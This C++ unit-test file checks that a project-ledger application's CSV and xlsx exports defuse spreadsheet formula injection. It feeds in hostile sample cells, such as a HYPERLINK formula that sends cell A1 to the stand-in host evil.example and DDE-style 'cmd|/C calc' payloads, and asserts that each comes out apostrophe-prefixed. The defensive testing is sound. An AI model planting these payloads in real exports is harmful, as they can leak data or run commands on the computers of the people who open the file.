// Exports neutralise formula-like user text (issue 14 item 4): a unit user's "=HYPERLINK(…)" must
// not reach the coordinator's CSV or xlsx as a live formula. Numbers written as numbers are not
// touched. Also: no export writes a text cell except through io::WriteText.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "domain/ledger/project.h"
#include "io/csv.h"
#include "io/formula_guard.h"
#include "io/ledger_export.h"
#include "io/list_exports.h"
#include "io/xlsx_reader.h"
#include "io/xlsx_table.h"

namespace gj::io {
namespace {

namespace fs = std::filesystem;
const std::string kLink = R"x(=HYPERLINK("http://evil.example/?"&A1,"点此查看"))x";

TEST(FormulaGuard, WhichTextIsGuarded) {
  for (std::string_view s : {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "=", "@", "-A1",
                             "+cmd|'/C calc'!A0", "-2+3", "- ", "--", "-1e", "-.", "+-1"}) {
    EXPECT_TRUE(NeedsFormulaGuard(s)) << s;
    EXPECT_EQ(GuardFormula(s), std::string("'").append(s));
  }
  for (std::string_view s :
       {"", "-", "+", "-12.50", "+3", "-0.5", "-.5", "-1e5", "1-2", "项目-1", " =1", "'=1", "a=b"}) {
    EXPECT_FALSE(NeedsFormulaGuard(s)) << s;
    EXPECT_EQ(GuardFormula(s), s);
  }
}

TEST(FormulaGuard, UnguardUndoesTheGuardOnly) {
  for (const std::string x : {"=1+1", "@县", "+86 cmd", "-x", "\t=1", "阿胶", "-", "-12.50", "'plain", ""})
    EXPECT_EQ(UnguardFormula(GuardFormula(x)), x) << x;
  EXPECT_EQ(UnguardFormula("'=HYPERLINK(1)"), "=HYPERLINK(1)");
  EXPECT_EQ(UnguardFormula("'plain"), "'plain");    // not a guard: kept
  EXPECT_EQ(UnguardFormula("'-12.50"), "'-12.50");  // a number needs no guard, so this is the text
  EXPECT_EQ(UnguardFormula("'"), "'");
  // The one text that does not come back: one that itself starts with an apostrophe before a
  // guarded character reads as guarded (a spreadsheet could not tell them apart either).
  EXPECT_EQ(UnguardFormula(GuardFormula("'=x")), "=x");
}

TEST(FormulaGuard, CsvWriterGuardsTextFields) {
  std::string out;
  std::vector<std::string_view> fields = {kLink, "-12.50", "-", "@x", "plain"};
  AppendCsvRow(out, fields);
  EXPECT_EQ(out, R"x("'=HYPERLINK(""http://evil.example/?""&A1,""点此查看"")",-12.50,-,'@x,plain)x"
                 "\n");
  auto back = ReadCsvRows(out);
  ASSERT_TRUE(back);
  EXPECT_EQ((*back)[0][0], std::string("'").append(kLink));
}

store::ProjectRow Hostile() {
  store::ProjectRow r;
  r.project.code = "-";  // a lone dash stays as it is
  r.project.name = kLink;
  r.project.builder = "+86 cmd|' /C calc'!A0";
  r.project.content = "\t=1+1";
  r.project.total_investment = -1250000;  // a negative amount is a number, not text
  r.county_name = "@县";
  return r;
}

TEST(FormulaGuard, LedgerCsvExport) {
  const std::string csv =
      LedgerCsv([](const RowSink& sink) { sink(Hostile()); }, ledger::DefaultDictionaries());
  auto rows = ReadCsvRows(csv);
  ASSERT_TRUE(rows) << rows.error().message;
  ASSERT_EQ(rows->size(), 2u);
  const auto& row = (*rows)[1];
  EXPECT_EQ(row[0], "-");
  EXPECT_EQ(row[1], std::string("'").append(kLink));
  EXPECT_EQ(row[2], "'@县");
  EXPECT_EQ(row[9], "-125.00");
  EXPECT_EQ(row[13], "'+86 cmd|' /C calc'!A0");
  EXPECT_EQ(row[22], "'\t=1+1");  // 建设内容 (the last column but the builder's credit code)
  for (const auto& cell : row) EXPECT_FALSE(cell.starts_with("=") || cell.starts_with("@")) << cell;
}

TEST(FormulaGuard, XlsxExportsReadBack) {
  const std::string xlsx =
      LedgerXlsx([](const RowSink& sink) { sink(Hostile()); }, ledger::DefaultDictionaries());
  auto rows = ReadXlsxRows(xlsx);
  ASSERT_TRUE(rows) << rows.error().message;
  ASSERT_EQ(rows->size(), 2u);
  const auto& row = (*rows)[1];
  EXPECT_EQ(row[0], "-");
  EXPECT_EQ(row[1], std::string("'").append(kLink));
  EXPECT_EQ(row[2], "'@县");
  EXPECT_EQ(row[9], "-125");      // a number cell, as stored
  EXPECT_EQ(row[22], "'\t=1+1");  // 建设内容 (the last column but the builder's credit code)
  // Formulas and text cells: the sheet XML has no <f> at all.
  EXPECT_EQ(xlsx.find("<f>"), std::string::npos);

  ListSheet sheet{
      "S", {{"a"}, {"b"}, {"c"}}, {{ListCell::Text("=1+2"), ListCell::Number(-3.0), ListCell::Text("-3")}}};
  auto list = ReadXlsxRows(ListXlsx({sheet}));
  ASSERT_TRUE(list) << list.error().message;
  EXPECT_EQ((*list)[1], (std::vector<std::string>{"'=1+2", "-3", "-3"}));

  auto table = XlsxTableBytes("T", [](XlsxTable& t) -> Status {
    t.Header({"h"});
    t.Text(1, 0, "@cmd");
    t.Number(1, 1, -7);
    return Ok{};
  });
  ASSERT_TRUE(table) << table.error().message;
  auto back = ReadXlsxRows(*table);
  ASSERT_TRUE(back) << back.error().message;
  EXPECT_EQ((*back)[1], (std::vector<std::string>{"'@cmd", "-7"}));
}

// One place per format: a text cell is written through io::WriteText only, so no export can forget
// the guard. This fails when a file under src/ calls worksheet_write_string itself.
TEST(FormulaGuard, NoExportWritesTextCellsDirectly) {
  fs::path src;
  for (fs::path p = fs::path(__FILE__).parent_path(); !p.empty() && p != p.root_path(); p = p.parent_path()) {
    if (fs::exists(p / "src" / "io" / "workbook.cpp")) {
      src = p / "src";
      break;
    }
  }
  if (src.empty()) GTEST_SKIP() << "source tree not found";
  std::vector<std::string> offenders;
  for (const auto& e : fs::recursive_directory_iterator(src)) {
    if (e.path().extension() != ".cpp" && e.path().extension() != ".h") continue;
    if (e.path().filename() == "workbook.cpp" || e.path().filename() == "workbook.h") continue;
    std::ifstream in(e.path());
    std::stringstream ss;
    ss << in.rdbuf();
    const std::string text = ss.str();
    if (text.find("worksheet_write_string") != std::string::npos ||
        text.find("worksheet_write_rich_string") != std::string::npos)
      offenders.push_back(e.path().string());
  }
  EXPECT_TRUE(offenders.empty()) << "use io::WriteText (io/workbook.h) in: "
                                 << ::testing::PrintToString(offenders);
}

}  // namespace
}  // namespace gj::io
